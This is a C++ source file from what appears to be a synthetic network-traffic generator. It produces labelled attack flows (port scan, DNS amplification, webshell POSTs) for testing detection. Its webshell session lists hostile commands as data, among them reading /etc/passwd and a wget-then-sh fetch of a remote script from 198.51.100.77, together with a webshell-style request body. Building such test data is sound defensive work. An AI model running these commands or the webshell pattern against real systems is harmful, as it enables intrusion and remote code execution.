#include "mamori/synth/attacks.h"

#include <algorithm>

#include <fmt/format.h>

#include "mamori/synth/recipes.h"

namespace mamori::synth {
namespace {

constexpr std::uint16_t kScanPorts[] = {22, 23,   80,   443,  445, 3389, 8080, 21,
                                        25, 3306, 5900, 6379, 110, 143,  993,  5432};

std::uint64_t mix64(std::uint64_t a, std::uint64_t b) {
  std::uint64_t state = a ^ (b * 0x9e3779b97f4a7c15ULL);
  return splitmix64(state);
}

std::string base64ish(Rng& rng, std::size_t length) {
  static constexpr char kChars[] =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out(length, 'A');
  for (auto& c : out) c = kChars[rng.below(64)];
  return out;
}

Timestamp at_fraction(const Plan& plan, std::uint32_t per_mille) {
  const std::int64_t span = (plan.end - plan.start).nanos;
  return plan.start + Duration{span / 1000 * per_mille};
}

}  // namespace

PortScanScenario::PortScanScenario(const SynthContext& ctx, ScanConfig config, std::uint64_t seed)
    : ctx_(ctx), config_(std::move(config)), rng_(seed), time_(config_.start) {
  const int host_bits = 32 - config_.target.length();
  const std::uint32_t hosts = host_bits >= 31 ? 0x80000000u : (1u << host_bits);
  for (std::uint32_t h = 0; h < hosts; ++h) {
    for (const auto port : config_.ports) probes_.emplace_back(h, port);
  }
  // Scanners randomize the probe order (nmap, masscan) to spread load over targets.
  for (std::size_t i = probes_.size(); i > 1; --i)
    std::swap(probes_[i - 1], probes_[rng_.below(i)]);
  source_port_ = static_cast<std::uint16_t>(rng_.between(40000, 60000));
}

std::optional<Timestamp> PortScanScenario::next_start() const {
  if (next_ >= probes_.size() || time_ >= ctx_.timing.end) return std::nullopt;
  return time_;
}

void PortScanScenario::start_next(FlowSink& sink) {
  const auto [host, port] = probes_[next_++];
  const IpAddress target = IpAddress::v4(config_.target.address().v4_value() + host);
  const std::uint64_t h = mix64(target.v4_value(), ctx_.seed);
  const bool alive =
      h % 1000 < config_.alive_per_mille && (host & 0xff) != 0 && (host & 0xff) != 255;
  const bool open = alive && ((port == 80 || port == 443) ? (h >> 10) % 10 < 4
                              : port == 22                ? (h >> 20) % 10 < 5
                                                          : (h >> 30 ^ port) % 10 < 1);
  TcpSpec spec;
  spec.path = make_path(ctx_, rng_, config_.scanner, source_port_, target, port);
  spec.path.vlan = 0;
  spec.start = time_;
  spec.seed = rng_.next();
  spec.scanner_syn = true;
  spec.timestamps = false;
  spec.closing = TcpClosing::none;
  spec.opening = !alive ? TcpOpening::syn_unanswered
                        : (open ? TcpOpening::syn_accept_reset : TcpOpening::syn_reset);
  FlowFacts facts;
  facts.scenario = config_.scenario;
  facts.attack = true;
  facts.protocol = 6;
  facts.client = config_.scanner;
  facts.client_port = source_port_;
  facts.server = target;
  facts.server_port = port;
  facts.start = time_;
  sink.add(std::make_unique<TcpFlow>(std::move(spec), ctx_.fill), std::move(facts));
  const std::int64_t mean = 1'000'000'000 / std::max<std::uint32_t>(1, config_.probes_per_second);
  time_ = time_ + Duration{std::max<std::int64_t>(1000, rng_.exponential(mean))};
}

AmplificationScenario::AmplificationScenario(const SynthContext& ctx, AmplificationConfig config,
                                             std::uint64_t seed)
    : ctx_(ctx), config_(std::move(config)), rng_(seed), time_(config_.start) {}

std::optional<Timestamp> AmplificationScenario::next_start() const {
  if (sent_ >= config_.queries || time_ >= ctx_.timing.end) return std::nullopt;
  return time_;
}

void AmplificationScenario::start_next(FlowSink& sink) {
  static constexpr std::string_view kZones[] = {"big-zone.example.com", "txt-records.example.org",
                                                "dnssec-test.example.com"};
  const IpAddress& reflector = config_.reflectors[sent_ % config_.reflectors.size()];
  const std::string_view zone = kZones[rng_.below(std::size(kZones))];
  const std::uint16_t type = rng_.chance(600) ? dns_type::any : dns_type::txt;
  const bool visible = rng_.chance(config_.visible_query_per_mille);
  FlowPath path = make_path(ctx_, rng_, config_.victim, ephemeral_port(rng_), reflector, 53);
  path.vlan = 0;
  DatagramSpec spec;
  spec.path = path;
  spec.start = time_;
  spec.seed = rng_.next();
  const auto id = rng_.next16();
  Datagram response;
  response.from = Side::server;
  write_dns_amplified_response(response.head, id, zone, type,
                               static_cast<std::size_t>(rng_.between(1150, 1450)), rng_);
  if (visible) {
    Datagram query;
    write_dns_query(query.head, id, zone, type, {});
    response.after = path.server_rtt;
    spec.datagrams.push_back(std::move(query));
  }
  spec.datagrams.push_back(std::move(response));
  FlowFacts facts;
  facts.scenario = config_.scenario;
  facts.attack = true;
  facts.protocol = 17;
  facts.client = path.client.ip;
  facts.client_port = path.client.port;
  facts.server = reflector;
  facts.server_port = 53;
  facts.initiator_is_server = !visible;
  facts.start = time_;
  facts.dns_names.emplace_back(zone);
  collect_payload(facts, spec.datagrams);
  sink.add(std::make_unique<DatagramFlow>(std::move(spec), ctx_.fill), std::move(facts));
  ++sent_;
  const std::int64_t mean = config_.length.nanos / static_cast<std::int64_t>(config_.queries);
  time_ = time_ + Duration{std::max<std::int64_t>(1000, rng_.exponential(mean))};
}

ScheduledScenario::ScheduledScenario(std::vector<std::pair<Timestamp, Maker>> events,
                                     std::uint64_t seed)
    : events_(std::move(events)), rng_(seed) {
  std::stable_sort(events_.begin(), events_.end(),
                   [](const auto& a, const auto& b) { return a.first < b.first; });
}

std::optional<Timestamp> ScheduledScenario::next_start() const {
  if (next_ >= events_.size()) return std::nullopt;
  return events_[next_].first;
}

void ScheduledScenario::start_next(FlowSink& sink) {
  auto& [time, maker] = events_[next_++];
  maker(sink, rng_, time);
}

namespace {

// One POST to the webshell; `command` is the operator's shell command.
MadeFlow webshell_post(const SynthContext& ctx, Rng& rng, const IpAddress& attacker,
                       const IpAddress& server, Timestamp start, std::string_view command) {
  const FlowPath path = make_path(ctx, rng, attacker, ephemeral_port(rng), server, 80);
  HttpExchange exchange;
  exchange.request.method = "POST";
  exchange.request.host = std::string(kWebshellSite);
  exchange.request.target =
      fmt::format("/wp-content/uploads/2026/10/thumb.php?sid={}", ctx.content_marker);
  exchange.request.user_agent = pick_user_agent(0);
  std::string encoded;
  for (const char c : command) encoded += fmt::format("{:02X}", static_cast<unsigned char>(c));
  exchange.request.body = fmt::format("z={}$_POST[z0]));&z0={}&z1={}&z9={}", kWebshellPattern,
                                      base64ish(rng, 120), encoded, ctx.content_marker);
  exchange.response.body_fill = static_cast<std::uint64_t>(rng.between(120, 3000));
  exchange.response.server = "Apache/2.4.57 (Unix)";
  return http_flow(ctx, rng, path, start, {std::move(exchange)}, {});
}

}  // namespace

namespace {

using Events = std::vector<std::pair<Timestamp, ScheduledScenario::Maker>>;

void add_webshell_session(const SynthContext& ctx, Rng& rng, Events& events) {
  static constexpr std::string_view kCommands[] = {
      "id",
      "uname -a",
      "cat /etc/passwd",
      "ls -la /var/www/html",
      "netstat -antp",
      "wget http://198.51.100.77/x.sh -O /tmp/x.sh",
      "sh /tmp/x.sh",
      "crontab -l",
  };
  const Plan& plan = ctx.timing;
  Timestamp when = at_fraction(plan, static_cast<std::uint32_t>(rng.between(100, 300)));
  for (std::size_t i = 0; i < plan.webshell_requests && when < plan.end; ++i) {
    const std::string_view command = kCommands[i % std::size(kCommands)];
    events.emplace_back(when, [&ctx, command](FlowSink& sink, Rng& r, Timestamp t) {
      MadeFlow made =
          webshell_post(ctx, r, ctx.infra.webshell_attacker, ctx.infra.webshell_server, t, command);
      made.facts.scenario = "webshell";
      made.facts.attack = true;
      sink.add(std::move(made.flow), std::move(made.facts));
    });
    when = when + Duration::seconds(rng.between(3, 40));
  }
}

// The implant's TLS and the webshell loader between two domestic hosts: rules match, but DD
// is never processed, so the sieve must select none of them (I3).
void add_dd_decoys(const SynthContext& ctx, Rng& rng, Events& events) {
  for (int i = 0; i < 4; ++i) {
    const Timestamp t = at_fraction(ctx.timing, static_cast<std::uint32_t>(rng.between(50, 950)));
    events.emplace_back(t, [&ctx](FlowSink& sink, Rng& r, Timestamp at) {
      const FlowPath path =
          make_path(ctx, r, ctx.infra.dd_infected, ephemeral_port(r), ctx.infra.dd_server, 443);
      TlsSession session;
      session.profile = TlsProfile::implant;
      session.sni = "intranet-sync.example.jp";
      session.exchanges = {{r.between(150, 400), r.between(60, 600)}};
      MadeFlow made = tls_flow(ctx, r, path, at, session, {});
      made.facts.scenario = "dd_decoy_implant";
      made.facts.attack = true;
      sink.add(std::move(made.flow), std::move(made.facts));
    });
  }
  for (int i = 0; i < 2; ++i) {
    const Timestamp t = at_fraction(ctx.timing, static_cast<std::uint32_t>(rng.between(50, 950)));
    events.emplace_back(t, [&ctx](FlowSink& sink, Rng& r, Timestamp at) {
      MadeFlow made =
          webshell_post(ctx, r, ctx.infra.dd_infected, ctx.infra.webshell_server, at, "id");
      made.facts.scenario = "dd_decoy_webshell";
      made.facts.attack = true;
      sink.add(std::move(made.flow), std::move(made.facts));
    });
  }
}

}  // namespace

std::vector<std::unique_ptr<Scenario>> make_attack_scenarios(const SynthContext& ctx) {
  const Infrastructure& infra = ctx.infra;
  const Plan& plan = ctx.timing;
  Rng rng(ctx.seed ^ hash_label("attacks"));
  std::vector<std::unique_ptr<Scenario>> out;

  ScanConfig scan;
  scan.scanner = infra.scanner;
  scan.target = infra.scan_target;
  scan.ports.assign(std::begin(kScanPorts), std::begin(kScanPorts) + plan.scan_ports);
  scan.start = at_fraction(plan, static_cast<std::uint32_t>(rng.between(200, 400)));
  out.push_back(std::make_unique<PortScanScenario>(ctx, scan, ctx.seed ^ hash_label("scan")));

  AmplificationConfig amp;
  amp.victim = infra.amp_victim;
  amp.reflectors = infra.reflectors;
  amp.start = at_fraction(plan, static_cast<std::uint32_t>(rng.between(500, 700)));
  amp.queries = plan.amp_queries;
  amp.length = Duration::seconds(static_cast<std::int64_t>(rng.between(30, 90)));
  out.push_back(std::make_unique<AmplificationScenario>(ctx, amp, ctx.seed ^ hash_label("amp")));

  Events events;
  add_webshell_session(ctx, rng, events);
  add_dd_decoys(ctx, rng, events);
  out.push_back(
      std::make_unique<ScheduledScenario>(std::move(events), ctx.seed ^ hash_label("events")));
  return out;
}

}  // namespace mamori::synth
